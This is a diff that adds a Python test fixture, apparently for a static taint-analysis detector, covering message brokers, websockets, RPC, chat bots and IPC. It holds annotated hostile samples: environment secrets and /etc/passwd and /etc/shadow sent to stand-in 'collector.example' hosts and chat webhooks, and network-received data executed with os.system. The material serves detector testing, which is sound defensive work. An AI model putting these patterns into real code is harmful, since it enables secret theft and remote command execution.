@@ -1,0 +1,368 @@
+"""Message brokers, web sockets, RPC, chat services."""
+import os
+from multiprocessing.connection import Client, Listener
+
+import confluent_kafka
+import dbus
+import discord
+import discord_webhook
+import grpc
+import kafka
+import paho.mqtt.client
+import paho.mqtt.publish
+import pika
+import redis
+import requests
+import slack_sdk
+import socketio
+import telegram
+import twilio.rest
+import websocket
+import websockets
+import zmq
+from fleetspeak.client_connector import connector
+from slack_sdk.webhook import WebhookClient
+
+U = "https://collector.example/u"
+
+
+async def ws_send():
+    async with websockets.connect("wss://ws.collector.example/") as ws:  #~ capability(NETWORK), endpoint("wss://ws.collector.example/")
+        await ws.send(os.getenv("T"))  #~ source(ENVIRONMENT) f1, sink(egress.message) f1, finding(traced) f1
+
+
+async def ws_receive():
+    ws = await websockets.connect("wss://ws.collector.example/")
+    os.system(await ws.recv())  #~ source(NETWORK) f2, sink(exec.command) f2, finding(traced) f2
+
+
+async def ws_constants():
+    ws = await websockets.connect("wss://ws.collector.example/")  #~ ok
+    await ws.send("ping")  #~ ok
+    requests.post(U, data={"bye": await ws.recv() == "bye"})  #~ ok
+
+
+async def on_socket(ws):
+    os.system(ws.text)  #~ sink(exec.command) fserve, finding(traced) fserve
+
+
+async def on_quiet_socket(ws):
+    return len(ws.text)
+
+
+async def ws_serve():
+    await websockets.serve(on_socket, "", 80)  #~ source(NETWORK) fserve, capability(NETWORK)
+    await websockets.serve(on_quiet_socket, "", 80)  #~ ok
+
+
+def wsc_send():
+    ws = websocket.create_connection("wss://wsc.collector.example/")  #~ capability(NETWORK), endpoint("wss://wsc.collector.example/")
+    ws.send(os.getenv("T"))  #~ source(ENVIRONMENT) f7, sink(egress.message) f7, finding(traced) f7
+
+
+def wsc_receive():
+    ws = websocket.create_connection("wss://wsc.collector.example/")
+    os.system(ws.recv())  #~ source(NETWORK) f8, sink(exec.command) f8, finding(traced) f8
+
+
+def wsc_constants():
+    ws = websocket.create_connection("wss://wsc.collector.example/")  #~ ok
+    ws.send("ping")  #~ ok
+    requests.post(U, data={"bye": ws.recv() == "bye"})  #~ ok
+
+
+def on_text(app, text):
+    os.system(text)  #~ sink(exec.command) fapp, finding(traced) fapp
+
+
+def on_quiet_text(app, text):
+    return len(text)
+
+
+def wsc_app():
+    websocket.WebSocketApp("wss://app.collector.example/", on_message=on_text)  #~ source(NETWORK) fapp, capability(NETWORK), endpoint("wss://app.collector.example/")
+    websocket.WebSocketApp("wss://app.collector.example/", on_message=on_quiet_text)  #~ ok
+
+
+def rpc_call():
+    channel = grpc.insecure_channel("grpc.collector.example:50051")  #~ capability(NETWORK), endpoint("grpc.collector.example:50051")
+    put = channel.unary_unary("/s/Put")
+    put.with_call(os.getenvb(b"T"))  #~ source(ENVIRONMENT) f13, sink(egress.message) f13, finding(traced) f13
+
+
+def rpc_answer():
+    channel = grpc.insecure_channel("grpc.collector.example:50051")
+    answer = channel.unary_unary("/s/Next").with_call(b"ping")  #~ source(NETWORK) f14
+    os.system(answer[0].command)  #~ sink(exec.command) f14, finding(traced) f14
+
+
+def rpc_constants():
+    channel = grpc.insecure_channel("grpc.collector.example:50051")  #~ ok
+    put = channel.unary_unary("/s/Put")  #~ ok
+    put.with_call(b"ping")  #~ ok
+    grpc.server(None)  #~ capability(NETWORK)
+    grpc.server(None)  #~ ok
+
+
+def rabbit_publish():
+    channel = pika.BlockingConnection(None).channel()  #~ capability(NETWORK)
+    channel.basic_publish("", "q", os.getenv("T"))  #~ source(ENVIRONMENT) f16, sink(egress.message) f16, finding(traced) f16
+
+
+def on_delivery(channel, method, properties, body):
+    os.system(body)  #~ sink(exec.command) fdelivery, finding(traced) fdelivery
+
+
+def on_quiet_delivery(channel, method, properties, body):
+    return len(body)
+
+
+def rabbit_consume():
+    channel = pika.BlockingConnection(None).channel()
+    channel.basic_consume("q", on_delivery)  #~ source(NETWORK) fdelivery
+
+
+def rabbit_get():
+    channel = pika.BlockingConnection(None).channel()
+    method, properties, body = channel.basic_get("q")  #~ source(NETWORK) f20
+    os.system(body)  #~ sink(exec.command) f20, finding(traced) f20
+
+
+def rabbit_constants():
+    channel = pika.BlockingConnection(None).channel()  #~ ok
+    channel.basic_publish("", "q", "ping")  #~ ok
+    channel.basic_consume("q", on_quiet_delivery)  #~ ok
+    requests.post(U, data={"none": channel.basic_get("q") == ()})  #~ ok
+
+
+def kafka_send():
+    producer = kafka.KafkaProducer(bootstrap_servers="kafka.collector.example:9092")  #~ capability(NETWORK), endpoint("kafka.collector.example:9092")
+    producer.send("topic", os.getenvb(b"T"))  #~ source(ENVIRONMENT) f22, sink(egress.message) f22, finding(traced) f22
+
+
+def kafka_receive():
+    for message in kafka.KafkaConsumer("topic"):  #~ source(NETWORK) f23, capability(NETWORK)
+        os.system(message.value)  #~ sink(exec.command) f23, finding(traced) f23
+
+
+def kafka_constants():
+    kafka.KafkaProducer(bootstrap_servers="kafka.collector.example:9092").send("topic", b"ping")  #~ ok
+    requests.post(U, data={"none": kafka.KafkaConsumer("topic") == ()})  #~ ok
+
+
+def confluent_send():
+    producer = confluent_kafka.Producer({})
+    producer.produce("topic", os.getenv("T"))  #~ source(ENVIRONMENT) f25, sink(egress.message) f25, finding(traced) f25, capability(NETWORK)
+    producer.produce("topic", "ping")  #~ ok
+
+
+def confluent_receive():
+    consumer = confluent_kafka.Consumer({})
+    message = consumer.poll(1)  #~ source(NETWORK) f26, capability(NETWORK)
+    os.system(message.text)  #~ sink(exec.command) f26, finding(traced) f26
+
+
+def confluent_compared():
+    requests.post(U, data={"none": confluent_kafka.Consumer({}).poll(1) == ()})  #~ ok
+
+
+def redis_publish():
+    r = redis.Redis("redis.collector.example")  #~ capability(NETWORK), endpoint("redis.collector.example")
+    r.publish("channel", os.getenv("T"))  #~ source(ENVIRONMENT) f28, sink(egress.message) f28, finding(traced) f28
+
+
+def redis_next():
+    r = redis.Redis("redis.collector.example")
+    os.system(r.lpop("tasks"))  #~ source(NETWORK) f29, sink(exec.command) f29, finding(traced) f29
+
+
+def redis_constants():
+    r = redis.Redis("redis.collector.example")  #~ ok
+    r.publish("channel", "ping")  #~ ok
+    requests.post(U, data={"none": r.lpop("tasks") == ""})  #~ ok
+
+
+def mqtt_publish():
+    c = paho.mqtt.client.Client()
+    c.connect("mqtt.collector.example")  #~ capability(NETWORK), endpoint("mqtt.collector.example")
+    c.publish("topic", os.getenv("T"))  #~ source(ENVIRONMENT) f31, sink(egress.message) f31, finding(traced) f31, capability(NETWORK)
+
+
+def on_mqtt(client, userdata, message):
+    os.system(message.payload)  #~ sink(exec.command) fmqtt, finding(traced) fmqtt
+
+
+def on_quiet_mqtt(client, userdata, message):
+    return len(message.payload)
+
+
+def mqtt_listen():
+    c = paho.mqtt.client.Client()
+    c.on_message = on_mqtt
+    c.loop_forever()  #~ source(NETWORK) fmqtt
+
+
+def mqtt_single():
+    paho.mqtt.publish.single("topic", os.getenv("T"), hostname="mqtt.collector.example")  #~ source(ENVIRONMENT) f35, sink(egress.message) f35, finding(traced) f35, capability(NETWORK)
+    paho.mqtt.publish.single("topic", "ping", hostname="mqtt.collector.example")  #~ ok
+
+
+def mqtt_constants():
+    c = paho.mqtt.client.Client()
+    c.connect("mqtt.collector.example")  #~ ok
+    c.publish("topic", "ping")  #~ ok
+    c.on_message = on_quiet_mqtt
+    c.loop_forever()  #~ ok
+
+
+def zmq_send():
+    s = zmq.Context().socket(zmq.PUSH)  #~ capability(NETWORK)
+    s.connect("tcp://zmq.collector.example:5555")  #~ capability(NETWORK), endpoint("tcp://zmq.collector.example:5555")
+    s.send_string(os.getenv("T"))  #~ source(ENVIRONMENT) f37, sink(egress.message) f37, finding(traced) f37
+
+
+def zmq_receive():
+    s = zmq.Context().socket(zmq.PULL)
+    os.system(s.recv_string())  #~ source(NETWORK) f38, sink(exec.command) f38, finding(traced) f38
+
+
+def zmq_object():
+    s = zmq.Context().socket(zmq.PULL)
+    s.recv_pyobj()  #~ source(NETWORK) f39, sink(exec.load) f39, finding(traced) f39
+
+
+def zmq_constants(queue):
+    s = zmq.Context().socket(zmq.PUSH)  #~ ok
+    s.connect("tcp://zmq.collector.example:5555")  #~ ok
+    s.send_string("ping")  #~ ok
+    requests.post(U, data={"bye": s.recv_string() == "bye"})  #~ ok
+    recv_pyobj = len(s.recv_string())  #~ ok
+
+
+def io_emit():
+    c = socketio.Client()
+    c.emit("event", os.getenv("T"))  #~ source(ENVIRONMENT) f41, sink(egress.message) f41, finding(traced) f41, capability(NETWORK)
+    c.emit("event", "ping")  #~ ok
+
+
+def slack_post():
+    c = slack_sdk.WebClient(token="x")  #~ capability(NETWORK)
+    c.chat_postMessage(channel="c", text=os.getenv("T"))  #~ source(ENVIRONMENT) f42, sink(egress.message) f42, finding(traced) f42
+
+
+def slack_file():
+    c = slack_sdk.WebClient(token="x")
+    c.files_upload_v2(channel="c", file="/etc/passwd")  #~ source(FILE) f43, sink(egress.message) f43, finding(traced) f43, capability(FILES)
+
+
+def slack_hook():
+    WebhookClient("https://slack.collector.example/").send(text=os.getenv("T"))  #~ source(ENVIRONMENT) f44, sink(egress.message) f44, finding(traced) f44, capability(NETWORK)
+    WebhookClient("https://slack.collector.example/").send(text="ping")  #~ ok
+
+
+def slack_constants():
+    c = slack_sdk.WebClient(token="x")  #~ ok
+    c.chat_postMessage(channel="c", text="ping")  #~ ok
+    c.files_upload_v2(channel="c", content="ping")  #~ ok
+
+
+def discord_file():
+    hook = discord.SyncWebhook.from_url("https://discord.collector.example/")  #~ capability(NETWORK), endpoint("https://discord.collector.example/")
+    file = discord.File("/etc/passwd")  #~ source(FILE) f46, capability(FILES)
+    hook.send("here", file=file)  #~ sink(egress.message) f46, finding(traced) f46
+
+
+def discord_constants():
+    hook = discord.SyncWebhook.from_url("https://discord.collector.example/")  #~ ok
+    hook.send("ping")  #~ ok
+    discord.File("logo.png")  #~ ok
+
+
+def hook_text():
+    hook = discord_webhook.DiscordWebhook(url="https://hook.collector.example/", content=os.getenv("T"))  #~ source(ENVIRONMENT) f48, capability(NETWORK), endpoint("https://hook.collector.example/")
+    hook.execute()  #~ sink(egress.message) f48, finding(traced) f48
+
+
+def hook_file():
+    hook = discord_webhook.DiscordWebhook(url="https://hook.collector.example/")
+    hook.add_file(file=os.getenvb(b"T"), filename="x")  #~ source(ENVIRONMENT) f49
+    hook.execute()  #~ sink(egress.message) f49, finding(traced) f49
+
+
+def hook_constants():
+    hook = discord_webhook.DiscordWebhook(url="https://hook.collector.example/", content="ping")  #~ ok
+    hook.add_file(file=b"ping", filename="x")  #~ ok
+    hook.execute()  #~ ok
+
+
+def bot_text():
+    bot = telegram.Bot("token")
+    bot.send_message(1, os.getenv("T"))  #~ source(ENVIRONMENT) f51, sink(egress.message) f51, finding(traced) f51, capability(NETWORK)
+
+
+def bot_file():
+    bot = telegram.Bot("token")
+    bot.send_document(1, open("/etc/passwd", "rb"))  #~ capability(NETWORK), capability(FILES)
+    bot.send_document(1, "/etc/shadow")  #~ source(FILE) f52, sink(egress.message) f52, finding(traced) f52
+
+
+def bot_command():
+    bot = telegram.Bot("token")
+    os.system(bot.get_updates()[0].text)  #~ source(NETWORK) f53, sink(exec.command) f53, finding(traced) f53
+
+
+def bot_constants(queue):
+    bot = telegram.Bot("token")
+    bot.send_message(1, "ping")  #~ ok
+    requests.post(U, data={"none": bot.get_updates() == ()})  #~ ok
+    send_document = queue.get("send_document")  #~ ok
+
+
+def text_message():
+    c = twilio.rest.Client("a", "b")  #~ capability(NETWORK)
+    c.messages.create(to="1", body=os.getenv("T"))  #~ source(ENVIRONMENT) f55, sink(egress.message) f55, finding(traced) f55
+
+
+def text_message_constant():
+    c = twilio.rest.Client("a", "b")  #~ ok
+    c.messages.create(to="1", body="ping")  #~ ok
+
+
+def fleet_send():
+    fs = connector.FleetspeakConnection(version="1")  #~ capability(IPC)
+    fs.Send(os.getenv("T"))  #~ source(ENVIRONMENT) f57, sink(egress.message) f57, finding(traced) f57, capability(NETWORK)
+
+
+def fleet_receive():
+    fs = connector.FleetspeakConnection(version="1")
+    message, size = fs.Recv()  #~ source(NETWORK) f58, capability(NETWORK)
+    os.system(message.data)  #~ sink(exec.command) f58, finding(traced) f58
+
+
+def fleet_constants():
+    fs = connector.FleetspeakConnection(version="1")  #~ ok
+    fs.Send("ping")  #~ ok
+    message, size = fs.Recv()  #~ ok
+    os.system(str(size))  #~ ok
+
+
+def bus():
+    dbus.SessionBus()  #~ capability(IPC)
+    dbus.SessionBus()  #~ ok
+
+
+def process_send():
+    c = Client(("ipc.collector.example", 6000))  #~ capability(IPC), endpoint("ipc.collector.example")
+    c.send(os.getenv("T"))  #~ source(ENVIRONMENT) f61, sink(egress.ipc) f61, finding(traced) f61
+
+
+def process_receive():
+    c = Listener(("", 6000)).accept()  #~ capability(IPC)
+    os.system(c.recv())  #~ source(NETWORK) f62, sink(exec.command) f62, finding(traced) f62
+
+
+def process_constants():
+    c = Client(("ipc.collector.example", 6000))  #~ ok
+    c.send("ping")  #~ ok
+    c = Listener(("", 6000)).accept()  #~ ok
+    requests.post(U, data={"bye": c.recv() == "bye"})  #~ ok
